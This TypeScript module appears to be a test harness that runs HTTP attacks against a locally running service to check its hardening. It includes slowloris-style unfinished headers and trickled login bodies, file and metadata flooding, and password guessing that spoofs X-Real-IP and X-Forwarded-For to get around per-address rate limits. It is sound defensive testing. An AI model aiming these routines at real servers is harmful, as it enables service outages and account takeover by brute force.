import { connect, type Socket } from 'node:net';
import { request } from 'node:http';

/**
 * The HTTP attacks of issue 27, each against a running service, as a stranger sends them from
 * loopback addresses of their own (127.0.0.x, never 127.0.0.1, which the legitimate client uses).
 * Each resolves with the statuses it got (0 = the connection closed without an answer).
 */

export interface AttackTarget {
  url: string;
  /** A bearer token of the API (login done beforehand). */
  token: string;
  /** The memfs Basic credential. */
  basic: { username: string; password: string };
}

export interface AttackOutcome {
  statuses: Record<string, number>;
  /** What else is worth a line (timings, counts). */
  note: string;
}

export interface Attack {
  name: string;
  what: string;
  run(target: AttackTarget): Promise<AttackOutcome>;
}

const MB = 1024 * 1024;
const portOf = (url: string) => Number(new URL(url).port);
const tally = (xs: readonly number[]) => xs.reduce<Record<string, number>>((m, s) => ({ ...m, [s]: (m[s] ?? 0) + 1 }), {});

/** The status of the first answer on a raw connection, once it closed (0: none). */
function rawAnswer(s: Socket): Promise<number> {
  return new Promise((resolve) => {
    let head = '';
    s.on('data', (c: Buffer) => { if (head.length < 32) head += c.toString('latin1'); });
    s.on('error', () => {});
    s.once('close', () => resolve(Number(/^HTTP\/1\.1 (\d{3})/.exec(head)?.[1] ?? 0)));
  });
}

function rawSocket(port: number, localAddress: string): Promise<Socket | undefined> {
  return new Promise((resolve) => {
    const s = connect({ host: '127.0.0.1', port, localAddress }, () => resolve(s));
    s.once('error', () => resolve(undefined));
  });
}

/** `n` connections, each sending `bytes` of one header line that never ends. */
async function unfinishedHeaders(url: string, n: number, address: (i: number) => string, bytes: number): Promise<AttackOutcome> {
  const piece = Buffer.alloc(16 * 1024, 'a');
  const answers = await Promise.all(Array.from({ length: n }, async (_, i) => {
    const s = await rawSocket(portOf(url), address(i));
    if (!s) return 0;
    const answer = rawAnswer(s);
    await new Promise<void>((done) => {
      let sent = 0;
      const pump = (): void => {
        while (sent < bytes && !s.destroyed) {
          sent += piece.length;
          if (!s.write(piece)) { s.once('drain', pump); return; }
        }
        done();
      };
      s.once('close', () => done());
      s.write('GET /api HTTP/1.1\r\nHost: x\r\nX-Filler: ', pump);
    });
    // what the client sent is out: it holds the connection until the server ends it (or 15 s)
    const stop = setTimeout(() => s.destroy(), 15_000);
    const status = await answer;
    clearTimeout(stop);
    return status;
  }));
  return { statuses: tally(answers), note: `${answers.filter((a) => a === 0).length} closed without an answer (per-address limit, or reset after the 431 while still sending)` };
}

/** `n` POST /api/login from `n` addresses, each body a byte every 200 ms, never done. */
async function trickledLogins(url: string, n: number): Promise<AttackOutcome> {
  const t0 = performance.now();
  let last = 0;
  const answers = await Promise.all(Array.from({ length: n }, async (_, i) => {
    const s = await rawSocket(portOf(url), `127.0.1.${i + 1}`);
    if (!s) return 0;
    const answer = rawAnswer(s);
    s.write('POST /api/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"username":');
    const timer = setInterval(() => { if (!s.destroyed) s.write(' '); }, 200);
    // the reference kept them for 310 s and more: give up at 120 s
    const stop = setTimeout(() => s.destroy(), 120_000);
    const status = await answer;
    clearInterval(timer);
    clearTimeout(stop);
    last = Math.max(last, performance.now() - t0);
    return status;
  }));
  return { statuses: tally(answers), note: `all closed after ${(last / 1000).toFixed(1)} s` };
}

/** `n` requests through `clients` keep-alive clients at a time; the statuses. */
async function many(n: number, clients: number, send: (i: number) => Promise<number>): Promise<number[]> {
  const out: number[] = [];
  let next = 0;
  await Promise.all(Array.from({ length: clients }, async () => {
    for (let i = next++; i < n; i = next++) out.push(await send(i).catch(() => 0));
  }));
  return out;
}

const basicOf = (u: string, p: string) => `Basic ${Buffer.from(`${u}:${p}`).toString('base64')}`;

/** One request from `localAddress` on a connection of its own; its status (0: failed). */
function from(url: string, localAddress: string, method: string, headers: Record<string, string>, body?: string): Promise<number> {
  return new Promise((resolve) => {
    const req = request(url, { method, headers: { connection: 'close', ...headers }, localAddress, agent: false }, (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode ?? 0));
    });
    req.on('error', () => resolve(0));
    req.end(body);
  });
}

/** `n` guesses at once from one address, each with another X-Real-IP / X-Forwarded-For. */
async function rotatingGuesses(n: number, guess: (i: number, spoof: Record<string, string>) => Promise<number>): Promise<AttackOutcome> {
  const t0 = performance.now();
  const answers = await Promise.all(Array.from({ length: n }, (_, i) =>
    guess(i, { 'x-real-ip': `203.0.${i >> 8}.${i & 255}`, 'x-forwarded-for': `198.51.${i >> 8}.${i & 255}` })));
  const tried = answers.filter((a) => a === 401).length;
  return { statuses: tally(answers), note: `${tried} guesses checked (401) in ${((performance.now() - t0) / 1000).toFixed(1)} s; the rest refused unchecked (429) or closed (per-address limit)` };
}

export const HTTP_ATTACKS: readonly Attack[] = [
  {
    name: 'headers-1mb-x600',
    what: '600 connections from one address, each 1 MB of headers that never end',
    run: (t) => unfinishedHeaders(t.url, 600, () => '127.0.0.2', MB),
  },
  {
    name: 'headers-1mb-x600-addresses',
    what: 'the same from 600 addresses (the header size bound alone)',
    run: (t) => unfinishedHeaders(t.url, 600, (i) => `127.0.${2 + Math.floor(i / 250)}.${(i % 250) + 1}`, MB),
  },
  {
    name: 'login-trickle-x100',
    what: '100 POST /api/login from 100 addresses, the body a byte every 200 ms',
    run: (t) => trickledLogins(t.url, 100),
  },
  {
    name: 'memfs-entries-20000',
    what: '20,000 empty files with 2,000-character names into memfs (1 MB limit), 16 at a time',
    run: async (t) => {
      const auth = { authorization: basicOf(t.basic.username, t.basic.password) };
      const name = (i: number) => `/memfs/${String(i).padStart(6, '0')}-${'n'.repeat(2000)}.ts`;
      const s = await many(20_000, 16, async (i) => {
        const r = await fetch(t.url + name(i), { method: 'PUT', headers: auth, body: '' });
        await r.arrayBuffer();
        return r.status;
      });
      return { statuses: tally(s), note: `${s.filter((x) => x === 201).length} stored` };
    },
  },
  {
    name: 'metadata-3.5mb-x20',
    what: '20 global metadata values of 3.5 MB',
    run: async (t) => {
      const value = JSON.stringify('v'.repeat(3.5 * MB));
      const s = await many(20, 1, async (i) => {
        const r = await fetch(`${t.url}/api/v3/metadata/attack-${i}`, { method: 'PUT', headers: { authorization: `Bearer ${t.token}`, 'content-type': 'application/json' }, body: value });
        await r.arrayBuffer();
        return r.status;
      });
      return { statuses: tally(s), note: `${s.filter((x) => x === 200).length} stored` };
    },
  },
  {
    name: 'control-json-3.5mb-x20-404',
    what: 'control for the metadata attack: the same 20 bodies to the metadata of a process that does not exist (parsed, then 404): what receiving them costs',
    run: async (t) => {
      const value = JSON.stringify('v'.repeat(3.5 * MB));
      const s = await many(20, 1, async (i) => {
        const r = await fetch(`${t.url}/api/v3/process/none/metadata/attack-${i}`, { method: 'PUT', headers: { authorization: `Bearer ${t.token}`, 'content-type': 'application/json' }, body: value });
        await r.arrayBuffer();
        return r.status;
      });
      return { statuses: tally(s), note: 'nothing stored' };
    },
  },
  {
    name: 'basic-guess-x300-rotating-ip',
    what: '300 memfs Basic guesses at once from one address, each with another X-Real-IP',
    run: (t) => rotatingGuesses(300, (i, spoof) => from(`${t.url}/memfs/guess-${i}.txt`, '127.0.0.6', 'PUT',
      { ...spoof, authorization: basicOf(t.basic.username, `guess-${i}`) }, 'data')),
  },
  {
    name: 'login-guess-x300-rotating-ip',
    what: '300 logins at once from one address, each with another X-Real-IP',
    run: (t) => rotatingGuesses(300, (i, spoof) => from(`${t.url}/api/login`, '127.0.0.7', 'POST',
      { ...spoof, 'content-type': 'application/json' }, JSON.stringify({ username: t.basic.username, password: `guess-${i}` }))),
  },
];
